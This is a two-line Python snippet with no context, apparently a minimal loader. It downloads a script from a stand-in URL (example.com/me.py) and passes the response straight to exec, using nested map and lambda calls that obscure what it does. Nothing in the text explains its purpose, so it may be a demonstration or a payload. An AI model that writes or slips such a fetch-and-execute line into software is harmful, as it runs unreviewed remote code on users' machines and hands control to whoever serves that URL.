import urllib.request

list(map(exec, map(lambda u: urllib.request.urlopen(u).read(), ["https://example.com/me.py"])))
